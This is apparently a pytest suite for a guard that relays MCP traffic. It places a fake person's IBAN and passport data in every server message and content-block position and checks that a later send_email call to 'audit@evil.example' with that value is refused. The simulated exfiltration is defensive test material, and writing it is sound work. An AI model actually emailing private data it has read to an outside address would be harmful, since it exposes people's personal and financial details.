"""Fault-injection matrix of the MCP relay: every server-to-client message type and content-block type (in-process).

Invariant: 0 executions of a call whose data path the guard did not observe.  Each case puts a
private value (a policy-declared private resource or prompt, a private tool's result, or server
content the policy gives the ``private_source`` kind) in one position of one server message, lets
the client receive it, then has the client propose sending exactly that value; the send must not
reach the server.  The ``nothing`` control shows the same send executes when nothing was shown.
"""

from __future__ import annotations

import asyncio
import base64
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from guard.adapters._mcp_relay import NOT_OBSERVED, REFUSED, GuardedRelay
from guard.errors import InputError
from guard.policy import parse_policy
from guard.records import RecordKind
from guard.runtime import Guard

POLICY = Path(__file__).resolve().parents[1] / "fixtures" / "mcp_policy.yaml"
ALICE = "Alice Meyer, IBAN DE89370400440532013000, passport C01X00T47"
B64 = base64.b64encode(ALICE.encode()).decode()


def _guard(**mcp: Any) -> Guard:
    data = yaml.safe_load(POLICY.read_text())
    data["mcp"] = {**data["mcp"], **mcp}
    return Guard(parse_policy(data), threshold=0.5)


class Server:
    """A relay between a list (the client) and a scripted server: ``answers[method]`` is the result it returns."""

    def __init__(self, guard: Guard, answers: dict[str, Any]) -> None:
        self.answers = answers
        self.client: list[Any] = []
        self.server: list[Any] = []
        self.warnings: list[str] = []
        self.relay = GuardedRelay(
            guard.session("m"), self._to_client, self._to_server, warn=self.warnings.append, check_at_start=False
        )

    async def _to_client(self, message: Any) -> None:
        self.client.append(message)

    async def _to_server(self, message: Any) -> None:
        self.server.append(message)
        if "method" not in message or "id" not in message:
            return
        method = message["method"]
        if method == "tools/call" and message["params"]["name"] != "read_record":
            answer: Any = {"result": {"content": [{"type": "text", "text": "sent"}]}}
        else:
            answer = self.answers.get(method, {"result": {}})
        await self.relay.from_server({"jsonrpc": "2.0", "id": message["id"], **answer})

    def sent(self) -> list[str]:
        return [m["params"]["name"] for m in self.server if m.get("method") == "tools/call"]


def _req(rpc_id: int, method: str, params: dict[str, Any]) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": rpc_id, "method": method, "params": params}


def _send(rpc_id: int, body: str) -> dict[str, Any]:
    args = {"to": "audit@evil.example", "subject": "r", "body": body}
    return _req(rpc_id, "tools/call", {"name": "send_email", "arguments": args})


def _tool(block: dict[str, Any]) -> tuple[dict[str, Any], list[Any]]:
    """A private tool (read_record) whose result carries ``block``."""
    answer = {"result": {"content": [{"type": "text", "text": "ok"}, block]}}
    return {"tools/call": answer}, [_req(1, "tools/call", {"name": "read_record", "arguments": {"name": "alice"}})]


def _read(item: dict[str, Any], **result: Any) -> tuple[dict[str, Any], list[Any]]:
    answer = {"result": {"contents": [{"uri": "records://alice", **item}], **result}}
    return {"resources/read": answer}, [_req(1, "resources/read", {"uri": "records://alice"})]


def _prompt(block: dict[str, Any]) -> tuple[dict[str, Any], list[Any]]:
    answer = {"result": {"messages": [{"role": "user", "content": block}]}}
    return {"prompts/get": answer}, [_req(1, "prompts/get", {"name": "review_record", "arguments": {}})]


def _answer(method: str, answer: dict[str, Any], params: dict[str, Any] | None = None) -> Any:
    return {method: answer}, [_req(1, method, params or {})]


def _from_server(message: dict[str, Any]) -> tuple[dict[str, Any], list[Any]]:
    return {}, [("server", {"jsonrpc": "2.0", **message})]


ANN = {"annotations": {"audience": ["user"], "note": ALICE}}
META = {"_meta": {"origin": ALICE}}
BLOCKS: dict[str, dict[str, Any]] = {
    "text": {"type": "text", "text": ALICE},
    "image": {"type": "image", "data": B64, "mimeType": "image/png"},
    "audio": {"type": "audio", "data": B64, "mimeType": "audio/wav"},
    "resource_link_uri": {"type": "resource_link", "uri": f"records://{ALICE}", "name": "r"},
    "resource_link_name": {"type": "resource_link", "uri": "records://a", "name": ALICE},
    "resource_link_description": {"type": "resource_link", "uri": "records://a", "name": "r", "description": ALICE},
    "resource_link_title": {"type": "resource_link", "uri": "records://a", "name": "r", "title": ALICE},
    "embedded_text": {"type": "resource", "resource": {"uri": "records://a", "text": ALICE}},
    "embedded_blob": {"type": "resource", "resource": {"uri": "records://a", "blob": B64}},
    "unknown_type": {"type": "hologram", "payload": {"deep": [ALICE]}},
    "text_annotations": {"type": "text", "text": "ok", **ANN},
    "text_meta": {"type": "text", "text": "ok", **META},
    "image_annotations": {"type": "image", "data": "AA==", "mimeType": "image/png", **ANN},
    "image_meta": {"type": "image", "data": "AA==", "mimeType": "image/png", **META},
    "audio_meta": {"type": "audio", "data": "AA==", "mimeType": "audio/wav", **META},
    "resource_link_meta": {"type": "resource_link", "uri": "records://a", "name": "r", **META, **ANN},
    "embedded_meta": {"type": "resource", "resource": {"uri": "records://a", "text": "ok", **META}, **ANN},
    "unknown_meta": {"type": "hologram", **META},
}
ENCODED = ("image", "audio", "embedded_blob", "blob")  # the value the model is given is the base64 form

CASES: dict[str, Callable[[], tuple[dict[str, Any], list[Any]]]] = {
    **{f"tool_result/{name}": (lambda b=block: _tool(b)) for name, block in BLOCKS.items()},
    **{f"prompts_get/{name}": (lambda b=block: _prompt(b)) for name, block in BLOCKS.items()},
    "tool_result/structured": lambda: _answer(
        "tools/call",
        {"result": {"content": [], "structuredContent": {"r": ALICE}}},
        {"name": "read_record", "arguments": {"name": "alice"}},
    ),
    "tool_result/meta": lambda: _answer(
        "tools/call", {"result": {"content": [], **META}}, {"name": "read_record", "arguments": {"name": "alice"}}
    ),
    "tool_result/error": lambda: _answer(
        "tools/call", {"error": {"code": 1, "message": ALICE}}, {"name": "read_record", "arguments": {"name": "a"}}
    ),
    "resources_read/text": lambda: _read({"text": ALICE}),
    "resources_read/blob": lambda: _read({"blob": B64, "mimeType": "application/octet-stream"}),
    "resources_read/item_meta": lambda: _read({"text": "ok", **META}),
    "resources_read/result_meta": lambda: _read({"text": "ok"}, **META),
    "resources_read/error": lambda: _answer(
        "resources/read", {"error": {"code": -32002, "message": "nope", "data": ALICE}}, {"uri": "records://alice"}
    ),
    "resources_list/description": lambda: _answer(
        "resources/list", {"result": {"resources": [{"uri": "records://bob", "name": "b", "description": ALICE}]}}
    ),
    "resources_list/undeclared_uri": lambda: _answer(
        "resources/list", {"result": {"resources": [{"uri": "other://x", "name": ALICE}]}}
    ),
    "templates_list/description": lambda: _answer(
        "resources/templates/list",
        {"result": {"resourceTemplates": [{"uriTemplate": "records://{n}", "name": "t", "description": ALICE}]}},
    ),
    "prompts_list/description": lambda: _answer(
        "prompts/list", {"result": {"prompts": [{"name": "review_record", "description": ALICE}]}}
    ),
    "completion/values": lambda: _answer(
        "completion/complete",
        {"result": {"completion": {"values": [ALICE]}}},
        {"ref": {"type": "ref/resource", "uri": "records://{name}"}, "argument": {"name": "name", "value": "a"}},
    ),
    "initialize/instructions": lambda: _answer(
        "initialize", {"result": {"protocolVersion": "2025-11-25", "instructions": ALICE}}
    ),
    "tools_list/description": lambda: _answer(
        "tools/list", {"result": {"tools": [{"name": "x", "description": ALICE, "inputSchema": {}}]}}
    ),
    "unknown_method/result": lambda: _answer("vendor/custom", {"result": {"deep": {"x": ALICE}}}),
    "unknown_method/non_object_result": lambda: _answer("vendor/custom", {"result": [ALICE]}),
    "notification/logging": lambda: _from_server(
        {"method": "notifications/message", "params": {"level": "info", "data": {"r": ALICE}}}
    ),
    "notification/progress": lambda: _from_server(
        {"method": "notifications/progress", "params": {"progressToken": 1, "progress": 1, "message": ALICE}}
    ),
    "notification/resource_updated": lambda: _from_server(
        {"method": "notifications/resources/updated", "params": {"uri": "records://alice", **META}}
    ),
    "notification/unknown": lambda: _from_server({"method": "notifications/vendor", "params": {"x": ALICE}}),
    "server_request/sampling": lambda: _from_server(
        {
            "id": "s1",
            "method": "sampling/createMessage",
            "params": {"messages": [{"role": "user", "content": {"type": "text", "text": ALICE}}], "maxTokens": 9},
        }
    ),
    "server_request/elicitation": lambda: _from_server(
        {"id": "s2", "method": "elicitation/create", "params": {"message": ALICE, "requestedSchema": {}}}
    ),
    "server_request/unknown": lambda: _from_server({"id": "s3", "method": "vendor/ask", "params": {"q": ALICE}}),
}


def _run(guard: Guard, case: str) -> Server:
    answers, steps = CASES[case]() if case != "nothing" else ({}, [])
    h = Server(guard, answers)

    async def go() -> None:
        for step in steps:
            if isinstance(step, tuple):
                await h.relay.from_server(step[1])
            else:
                await h.relay.from_client(step)
        await h.relay.from_client(_send(99, B64 if case.split("/")[-1] in ENCODED else ALICE))

    asyncio.run(go())
    return h


@pytest.mark.parametrize("case", sorted(CASES))
def test_no_send_of_a_value_the_guard_was_shown_through_any_position(case: str) -> None:
    """Catches any position (message type x content block x annotations/_meta) whose content reaches the client
    unobserved, or observed as a non-private kind although the policy declares it private: the send runs."""
    guard = _guard(messages=["private_source", "untrusted_source"], server_requests="observe")
    h = _run(guard, case)
    assert "send_email" not in h.sent(), case
    (answer,) = [m for m in h.client if m.get("id") == 99]
    assert answer["result"]["isError"] is True


def test_control_the_same_send_runs_when_nothing_was_shown() -> None:
    """Negative control of the matrix: the refusals above come from what was observed, not from the send itself."""
    h = _run(_guard(messages=["private_source", "untrusted_source"], server_requests="observe"), "nothing")
    assert h.sent() == ["send_email"]


def test_server_requests_refused_by_default_and_never_reach_the_client() -> None:
    """Catches a relay that forwards sampling/elicitation requests to the client under server_requests: refuse."""
    h = _run(_guard(), "server_request/sampling")
    assert not any(m.get("method") == "sampling/createMessage" for m in h.client)
    (error,) = [m for m in h.server if m.get("id") == "s1"]
    assert error["error"]["code"] == REFUSED and "server_requests" in error["error"]["message"]


def test_undeclared_resource_and_prompt_refused_without_asking_the_server() -> None:
    """Catches a relay that forwards (or observes as trusted) a read of a resource or prompt the policy leaves out."""
    h = Server(_guard(), {"resources/read": {"result": {"contents": [{"uri": "notes://x", "text": "n"}]}}})

    async def go() -> None:
        await h.relay.from_client(_req(1, "resources/read", {"uri": "notes://today"}))
        await h.relay.from_client(_req(2, "prompts/get", {"name": "other"}))

    asyncio.run(go())
    assert h.server == []
    assert [(m["id"], m["error"]["code"]) for m in h.client] == [(1, REFUSED), (2, REFUSED)]
    assert "escalate" in h.client[0]["error"]["message"] and "mcp.resources" in h.client[0]["error"]["message"]


def test_undeclared_read_observed_as_private_when_the_policy_says_so() -> None:
    """Catches an undeclared resource forwarded under undeclared: private_source but not observed as private."""
    answer = {"result": {"contents": [{"uri": "n://x", "text": ALICE}]}}
    h = Server(_guard(undeclared="private_source"), {"resources/read": answer})

    async def go() -> None:
        await h.relay.from_client(_req(1, "resources/read", {"uri": "n://x"}))
        await h.relay.from_client(_send(2, ALICE))

    asyncio.run(go())
    assert h.client[0]["result"]["contents"][0]["text"] == ALICE
    assert h.sent() == []


@pytest.mark.parametrize("what", ["resources/read", "tools/call", "notification", "server_request"])
def test_content_that_cannot_be_observed_is_withheld(what: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Catches a relay that forwards an answer (or notification, or server request) whose observation raised."""
    guard = _guard(server_requests="observe")
    case = {
        "resources/read": "resources_read/text",
        "tools/call": "tool_result/text",
        "notification": "notification/logging",
        "server_request": "server_request/sampling",
    }[what]
    answers, steps = CASES[case]()
    h = Server(guard, answers)

    def refuse(*_: Any) -> None:
        raise InputError("session limit reached")

    monkeypatch.setattr(h.relay.session, "observe_content", refuse)
    monkeypatch.setattr(h.relay.session, "observe_result", refuse)

    async def go() -> None:
        for step in steps:
            await (h.relay.from_server(step[1]) if isinstance(step, tuple) else h.relay.from_client(step))

    asyncio.run(go())
    assert ALICE not in repr(h.client)
    if what in ("resources/read", "tools/call"):
        (answer,) = h.client
        assert answer["error"]["code"] == NOT_OBSERVED
    if what == "server_request":
        assert h.server[-1]["error"]["code"] == REFUSED


def test_responses_to_nothing_and_server_batches_are_dropped() -> None:
    """Catches a relay that forwards a server response no client request asked for, or a server batch, unobserved."""
    h = Server(_guard(), {})

    async def go() -> None:
        await h.relay.from_server({"jsonrpc": "2.0", "id": 41, "result": {"x": ALICE}})
        await h.relay.from_server([{"jsonrpc": "2.0", "method": "notifications/message", "params": {"d": ALICE}}])
        await h.relay.from_server({"jsonrpc": "2.0", "result": {"x": ALICE}})

    asyncio.run(go())
    assert h.client == [] and len(h.warnings) == 3


SAMPLING = {"messages": [{"role": "user", "content": {"type": "text", "text": "Summarise the note."}}], "maxTokens": 9}
ELICITATION = {"message": "Which account?", "requestedSchema": {"type": "object", "properties": {}}}
CLIENT_ANSWERS: dict[str, tuple[str, dict[str, Any], dict[str, Any]]] = {
    "sampling/result": (
        "sampling/createMessage",
        SAMPLING,
        {"result": {"role": "assistant", "content": {"type": "text", "text": ALICE}, "model": "m"}},
    ),
    "elicitation/accept": (
        "elicitation/create",
        ELICITATION,
        {"result": {"action": "accept", "content": {"a": ALICE}}},
    ),
    "elicitation/error": ("elicitation/create", ELICITATION, {"error": {"code": -1, "message": ALICE}}),
}


@pytest.mark.parametrize("case", sorted(CLIENT_ANSWERS))
def test_the_clients_answer_to_a_server_request_is_observed_never_a_user_turn(case: str) -> None:
    """Under ``server_requests: observe`` the client answers a sampling or elicitation request with a value (a model's
    text, the human's answer with the server's own default, a declined request's message); the answer reaches the
    server, is observed as the ``messages`` kinds (never a user turn), and a later send of that value is refused.

    Catches the client's answer forwarded unobserved (planted: ``client_answer`` in ``GuardedRelay._reply`` skipped
    -> the send of the answer's value runs) or recorded as the user's."""
    method, params, answer = CLIENT_ANSWERS[case]
    h = Server(_guard(messages=["private_source", "untrusted_source"], server_requests="observe"), {})

    async def go() -> None:
        await h.relay.from_server({"jsonrpc": "2.0", "id": "s1", "method": method, "params": params})
        await h.relay.from_client({"jsonrpc": "2.0", "id": "s1", **answer})
        await h.relay.from_client(_send(99, ALICE))

    asyncio.run(go())
    assert [m["id"] for m in h.client if m.get("method") == method] == ["s1"]
    assert [m for m in h.server if m.get("id") == "s1"] == [{"jsonrpc": "2.0", "id": "s1", **answer}]
    assert h.sent() == []
    records = h.relay.session.graph.records.values()
    assert not any(r.kind is RecordKind.USER for r in records)
    assert any(r.kind is RecordKind.RESULT and r.call_id is None and ALICE in r.text for r in records)


@pytest.mark.parametrize("context", ["thisServer", "allServers", 5, None])
def test_sampling_that_asks_for_the_clients_context_is_refused(context: Any) -> None:
    """A sampling request with ``includeContext`` other than ``none`` (or absent) would have the client put the
    session's context into the model's prompt and send what it wrote back to the server, decided by nobody: it is
    refused under ``server_requests: observe`` too (the server gets an error, the client never sees it); ``none`` and
    no key are forwarded.

    Catches the includeContext check dropped (planted: the ``context != "none"`` test removed from
    ``ContentObserver.server_request`` -> the request reaches the client)."""
    h = Server(_guard(server_requests="observe"), {})
    refused = {**SAMPLING, "includeContext": context}
    plain = [SAMPLING, {**SAMPLING, "includeContext": "none"}]

    async def go() -> None:
        await h.relay.from_server(
            {"jsonrpc": "2.0", "id": "bad", "method": "sampling/createMessage", "params": refused}
        )
        for i, params in enumerate(plain):
            await h.relay.from_server({"jsonrpc": "2.0", "id": i, "method": "sampling/createMessage", "params": params})

    asyncio.run(go())
    assert [m["id"] for m in h.client] == [0, 1]
    (error,) = h.server
    assert error["id"] == "bad" and error["error"]["code"] == REFUSED and "includeContext" in error["error"]["message"]


def test_a_client_answer_to_no_forwarded_request_is_dropped_and_one_not_observed_withheld(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A client response whose id the proxy never forwarded as a server request (one it refused, one it never saw)
    is dropped; an answer whose observation fails is replaced by an error, and answering twice forwards once.

    Catches client responses forwarded unchecked (planted: ``_reply`` forwarding when ``method is None`` -> the
    server gets an answer to a request the client never saw) and an unobserved answer forwarded."""
    h = Server(_guard(server_requests="observe"), {})
    answer = {"result": {"action": "accept", "content": {"a": ALICE}}}

    def refuse(*_: Any) -> None:
        raise InputError("session limit reached")

    async def go() -> None:
        await h.relay.from_client({"jsonrpc": "2.0", "id": "never", **answer})
        await h.relay.from_server({"jsonrpc": "2.0", "id": "s1", "method": "elicitation/create", "params": ELICITATION})
        await h.relay.from_client({"jsonrpc": "2.0", "id": "s1", **answer})
        await h.relay.from_client({"jsonrpc": "2.0", "id": "s1", **answer})  # a second answer to the same request
        await h.relay.from_server({"jsonrpc": "2.0", "id": "s2", "method": "elicitation/create", "params": ELICITATION})
        monkeypatch.setattr(h.relay.session, "observe_content", refuse)
        await h.relay.from_client({"jsonrpc": "2.0", "id": "s2", **answer})

    asyncio.run(go())
    assert [m["id"] for m in h.server] == ["s1", "s2"]
    assert "result" in h.server[0] and h.server[1]["error"]["code"] == NOT_OBSERVED
    assert ALICE not in repr(h.server[1])
    assert sum("no request the proxy forwarded" in w for w in h.warnings) == 2
